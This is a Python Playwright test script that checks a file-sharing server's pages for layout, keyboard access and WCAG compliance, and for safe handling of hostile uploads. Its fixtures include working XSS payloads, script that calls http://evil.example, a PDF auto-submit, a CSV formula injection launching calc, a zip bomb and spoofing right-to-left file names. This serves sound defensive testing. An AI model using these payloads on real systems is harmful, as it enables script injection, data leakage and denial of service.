"""A real browser on real pages: looks, keyboard, WCAG, hostile content.

    browser.py BINARY CHROMIUM AXE_JS OUT_DIR

Screenshots go to OUT_DIR. Exits 0 when nothing ran that should not, nothing broke, and axe-core found nothing.
"""

import json
import os
import re
import shutil
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
import zipfile
import zlib
from contextlib import contextmanager
from io import BytesIO

from playwright.sync_api import sync_playwright

BINARY, CHROMIUM, AXE, OUT = sys.argv[1:5]
CHROMIUM = shutil.which(CHROMIUM)
DEADLINE = 20
PHONE, DESKTOP = {"width": 390, "height": 844}, {"width": 1280, "height": 900}


def png(width, height, shade):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes(c for x in range(width) for c in (shade, x * 255 // width, y * 255 // height)) for y in range(height))
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def pdf(script=None):
    action = f"/OpenAction << /S /JavaScript /JS ({script}) >>" if script else ""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {action} >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
    ]
    out, places = b"%PDF-1.4\n", []
    for n, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{n} 0 obj {body} endobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{p:010} 00000 n \n".encode() for p in places)
    return out + f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF".encode()


def bomb():
    """A ZIP of 1 MB that unpacks to 1 GB."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w") as zeros:
        for _ in range(1024):
            zeros.write(bytes(1 << 20))
    return buffer.getvalue()


# Whatever of this runs says so by the title of the top window, by a dialog, or by a request to this name.
ATTACK = (
    "try{top.document.title='RAN'}catch(e){};document.title='RAN';try{alert('RAN')}catch(e){};"
    "fetch('http://evil.example/x');new Image().src='http://evil.example/y'"
)


def hostile():
    script = f"<script>{ATTACK}</script>"
    rows = "id,name,note\n" + "".join(f"{n},row {n},{n * 3}\n" for n in range(50_000))
    notebook = {
        "cells": [
            {"cell_type": "markdown", "source": f"# Notebook\n{script}<img src=x onerror=\"{ATTACK}\">"},
            {"cell_type": "code", "source": script, "outputs": [
                {"output_type": "display_data", "data": {"text/html": script, "image/svg+xml": script}},
                {"output_type": "display_data", "data": {"image/png": "x\" onerror=\"alert(1)"}},
                {"output_type": "stream", "text": script},
            ]},
        ]
    }
    return {
        "page.html": f"<!doctype html><title>x</title><body onload=\"{ATTACK}\">{script}<h1>An agent's page</h1>"
                     "<img src=http://evil.example/p.png><iframe src=http://evil.example/></iframe>"
                     "<form action=http://evil.example/ id=f></form><script>f.submit()</script>"
                     "<meta http-equiv=refresh content='0;url=http://evil.example/'><a href=http://evil.example target=_top>x</a>",
        "chart.svg": f"<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 300 200' onload=\"{ATTACK}\">"
                     f"<script>{ATTACK}</script><rect width='300' height='200' fill='teal'/>"
                     "<image href='http://evil.example/i.png'/></svg>",
        "evil.pdf": pdf("app.alert\\('RAN'\\); this.submitForm\\('http://evil.example/'\\)"),
        "big.csv": rows,
        "cells.csv": f"a,b\n\"{script.replace(chr(34), chr(34) * 2)}\",\"=cmd|' /C calc'!A0\"\n\u202eevil,\"line\nbreak\"\n",
        "read.md": f"# Title\n\n{script}\n\n<img src=x onerror=\"{ATTACK}\">\n\n[click](javascript:alert(1)) "
                   "![pixel](http://evil.example/pixel.png) [x](data:text/html,<script>alert(1)</script>)\n",
        "note.ipynb": json.dumps(notebook),
        "bad.json": "[" * 100_000,
        "data.json": json.dumps({"<script>": script}),
        "broken.parquet": b"PAR1" + b"\xff" * 4000 + struct.pack("<I", 3000) + b"PAR1",
        "bomb.zip": bomb(),
        "empty.txt": "",
        "script.js": ATTACK,
        f"</title><script>{ATTACK.replace('/', '.')}<": "named",
        "\"><img src=x onerror=alert(1)>.txt": "quotes",
        "'single' & \"double\".csv": "a,b\n1,2\n",
        "line\nbreak\ttab.txt": "newline",
        "\u202egnp.exe\u2069\u200b.txt": "direction",
        "שלום עולם.txt": "right to left",
        "x" * 250 + ".txt": "long",
        "lie.png": script,
        "picture 1.png": png(600, 400, 90),
        "picture 2.png": png(400, 600, 200),
        # A character of several bytes at the end of what is read for a preview.
        "cut.txt": "é" * 100_000,
    }


def friendly():
    return {
        "summary.md": "# Q3\n\nRevenue grew **12 %**.\n\n![chart](charts/q3.png)\n\n| a | b |\n|---|--:|\n| x | 1 |\n",
        "charts/q3.png": png(640, 400, 30),
        "charts/q4.png": png(640, 400, 160),
        "data.csv": "name,value\n" + "".join(f"n{i},{i}\n" for i in range(40)),
        "metrics.json": json.dumps({"auc": 0.91, "f1": [1, 2]}),
        "train.py": "def main():\n    return 0\n",
        "report.pdf": pdf(),
    }


def store(state, session, files, *options):
    for name, content in files.items():
        content = content.encode() if isinstance(content, str) else content
        command = [BINARY, "--state-dir", state, "--quiet", "push", "-", *options, "--to", f"{session}/{name}"]
        subprocess.run(command, input=content, check=True, timeout=60, stdout=subprocess.DEVNULL)


class Recorder(threading.Thread):
    """What http://evil.example/ is to the browser: it hears of every connection. (A request that a policy stops is an
    event too, but never one of these.)"""

    def __init__(self):
        super().__init__(daemon=True)
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.heard = []

    def run(self):
        while True:
            connection, _ = self.listener.accept()
            with connection:
                connection.settimeout(2)
                try:
                    self.heard.append(connection.recv(200).split(b"\r\n")[0].decode(errors="replace"))
                except OSError:
                    self.heard.append("a connection")


class Pages:
    def __init__(self, browser):
        self.browser = browser
        self.wrong = []

    def open(self, url, viewport=DESKTOP, scheme="light", script=True):
        context = self.browser.new_context(viewport=viewport, color_scheme=scheme, java_script_enabled=script, accept_downloads=True)
        page = context.new_page()
        page.on("dialog", lambda d: (self.wrong.append(f"{page.url}: dialog {d.message}"), d.dismiss()))
        page.on("pageerror", lambda e: self.wrong.append(f"{page.url}: {e}"))
        page.on("popup", lambda p: self.wrong.append(f"{page.url} opened {p.url}"))
        page.goto(url, wait_until="load")
        return page

    def check(self, page, what, axe=True):
        assert page.title() != "RAN", what
        width = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
        assert width[0] <= width[1], f"{what} is wider than the screen: {width}"
        if not axe:
            return
        page.evaluate(open(AXE).read())
        result = page.evaluate(
            "axe.run(document, {iframes: false, runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']})"
        )
        for violation in result["violations"]:
            nodes = "; ".join(n["html"][:120] + " " + n["failureSummary"][:200] for n in violation["nodes"][:3])
            self.wrong.append(f"{what}: {violation['id']} ({violation['impact']}): {nodes}")


def shot(page, name):
    page.screenshot(path=f"{OUT}/{name}.png", full_page=True)


def views(page):
    return page.eval_on_selector_all("article h2 a", "a => a.map(x => [x.textContent, x.href])")


def every_page(pages, link, session):
    """Each look of the session's page and of each of its files."""
    for viewport, size in [(PHONE, "phone"), (DESKTOP, "desktop")]:
        for scheme in ["light", "dark"]:
            page = pages.open(link, viewport, scheme)
            # What loads late is scrolled to.
            page.evaluate("for (const e of document.querySelectorAll('[loading=lazy]')) e.loading = 'eager'")
            page.wait_for_load_state("load")
            pages.check(page, f"{session} {size} {scheme}")
            shot(page, f"{session}-{size}-{scheme}")
            page.context.close()
    page = pages.open(link)
    listed = views(page)
    page.context.close()
    for number, (name, url) in enumerate(listed):
        page = pages.open(url, PHONE if number % 2 else DESKTOP, "dark" if number % 3 == 0 else "light")
        pages.check(page, f"{session}: {name!r}")
        shot(page, f"{session}-file-{number:02}")
        page.context.close()
    return listed


def without_script(pages, link):
    """Reading and downloading need none."""
    page = pages.open(link, script=False)
    page.fill("input[name=q]", "q3")
    page.press("input[name=q]", "Enter")
    page.wait_for_url("**q=q3**")
    assert page.locator("article").count() == 1
    page.click("article h2 a")
    page.wait_for_url("**/v/art_*")
    assert page.locator(".content img").count() == 1
    with page.expect_download() as download:
        page.click("a.button")
    assert open(download.value.path(), "rb").read() == friendly()["charts/q3.png"]
    page.context.close()


def by_keyboard(pages, link):
    page = pages.open(link)
    page.keyboard.press("/")
    assert page.evaluate("document.activeElement.name") == "q"
    page.keyboard.press("Escape")
    first = page.locator("a[data-full]").first
    first.focus()
    page.keyboard.press("Enter")
    box = page.locator("dialog.lightbox[open]")
    box.wait_for()
    before = box.locator("img").get_attribute("src")
    page.keyboard.press("ArrowRight")
    assert box.locator("img").get_attribute("src") != before
    pages.check(page, "lightbox")
    page.wait_for_function("document.querySelector('dialog.lightbox img').complete")
    page.screenshot(path=f"{OUT}/lightbox.png")
    page.keyboard.press("Escape")
    page.wait_for_function("!document.querySelector('dialog.lightbox').open")
    assert page.evaluate("document.activeElement.matches('a[data-full]')")
    # Everything that can be reached shows that it is.
    seen = set()
    page.evaluate("document.activeElement.blur()")
    for _ in range(80):
        page.keyboard.press("Tab")
        seen.add(page.evaluate("document.activeElement.className || document.activeElement.name || document.activeElement.tagName"))
    assert {"button", "q", "open", "download"} <= seen, seen
    page.context.close()


def filters(pages, link):
    page = pages.open(link)
    page.select_option("select[name=agent]", "painter")
    page.wait_for_url("**agent=painter**")
    assert sorted(n for n, _ in views(page)) == ["q3.png", "q4.png"]
    page.select_option("select[name=type]", "image/png")
    page.wait_for_url("**type=image**")
    page.click("a.clear")
    page.select_option("select[name=meta]", "stage=final")
    page.wait_for_url("**meta=stage**")
    assert page.locator("article").count() == 2
    page.context.close()


def whole_archive(link, files):
    with urllib.request.urlopen(f"{link}/zip", timeout=60) as answer:
        assert answer.headers["content-disposition"].startswith("attachment"), answer.headers
        data = answer.read()
    archive = zipfile.ZipFile(BytesIO(data))
    assert archive.testzip() is None
    names = archive.namelist()
    assert len(names) == len(set(names)) == len(files), (len(names), len(files))
    assert not any(n.startswith("/") or ".." in n.split("/") for n in names), names
    sizes = sorted(i.file_size for i in archive.infolist())
    assert sizes == sorted(len(c.encode() if isinstance(c, str) else c) for c in files.values())
    with open(f"{OUT}/all.zip", "wb") as f:
        f.write(data)
    subprocess.run(["python3", "-m", "zipfile", "-t", f"{OUT}/all.zip"], check=True, stdout=subprocess.DEVNULL)


def resident(pid):
    return int(re.search(r"VmHWM:\s+(\d+)", open(f"/proc/{pid}/status").read())[1]) >> 10


@contextmanager
def watched(state):
    """A server of `state` and a browser to look at it: base URL, pages, what evil.example heard, the server."""
    server = subprocess.Popen([BINARY, "--state-dir", state, "serve", "--http", "127.0.0.1:0"], stderr=subprocess.PIPE, text=True)
    try:
        for line in server.stderr:
            if found := re.search(r"links are served at (http://\S+)", line):
                break
        with sync_playwright() as p:
            recorder = Recorder()
            recorder.start()
            rules = f"MAP evil.example 127.0.0.1:{recorder.port}"
            browser = p.chromium.launch(
                executable_path=CHROMIUM,
                args=["--no-sandbox", "--disable-background-networking", f"--host-resolver-rules={rules}"],
            )
            yield found[1], Pages(browser), recorder, server
            browser.close()
        assert server.poll() is None
    finally:
        server.terminate()
        assert server.wait(DEADLINE) == 0


def verdict(pages):
    for line in pages.wrong:
        print("WRONG:", line)
    print("all well" if not pages.wrong else f"{len(pages.wrong)} wrong")
    sys.exit(1 if pages.wrong else 0)


def main():
    os.makedirs(OUT, exist_ok=True)
    state = tempfile.mkdtemp(prefix="ofs-pages-")
    nice = friendly()
    pictures = {n: c for n, c in nice.items() if n.endswith("png")}
    store(state, "run_42", {n: c for n, c in nice.items() if n not in pictures}, "--agent", "writer-7")
    store(state, "run_42", pictures, "--agent", "painter", "--meta", "stage=final")
    store(state, "run_42", {"train.py": nice["train.py"] + "# more\n"}, "--agent", "writer-7")
    nice["train.py"] += "# more\n"
    bad = hostile()
    store(state, "hostile", bad, "--agent", "<script>alert(1)</script>\u202e", "--meta", "k=\"><script>alert(1)</script>")
    with watched(state) as (base, pages, recorder, server):

        def link_to(session):
            command = [BINARY, "--state-dir", state, "--public-url", base + "/s", "link", session]
            return subprocess.run(command, check=True, capture_output=True, text=True, timeout=60).stdout.strip()

        link = link_to("run_42")
        every_page(pages, link, "run_42")
        without_script(pages, link)
        by_keyboard(pages, link)
        filters(pages, link)
        whole_archive(link, nice)
        evil = link_to("hostile")
        began = time.monotonic()
        listed = every_page(pages, evil, "hostile")
        assert len(listed) == len(bad), (len(listed), len(bad))
        whole_archive(evil, bad)
        print(f"hostile session: {time.monotonic() - began:.1f} s, {len(listed)} files")
        # Also by themselves, without our frame.
        for name, view in listed:
            page = pages.open(view.replace("/v/", "/f/") + "?frame=1") if name in ("page.html", "chart.svg") else None
            if page:
                pages.check(page, name, axe=False)
                page.context.close()
        # The recorder hears, and has heard nothing but this.
        control = pages.open(link)
        control.context.new_page().evaluate("location = 'http://evil.example/control'")
        until = time.monotonic() + DEADLINE
        while not recorder.heard and time.monotonic() < until:
            control.wait_for_timeout(50)
        pages.wrong += [f"sent to evil.example: {line}" for line in recorder.heard if "/control" not in line]
        assert any("/control" in line for line in recorder.heard), recorder.heard
        print(f"server: {resident(server.pid)} MiB resident at most")
    verdict(pages)


if __name__ == "__main__":
    main()
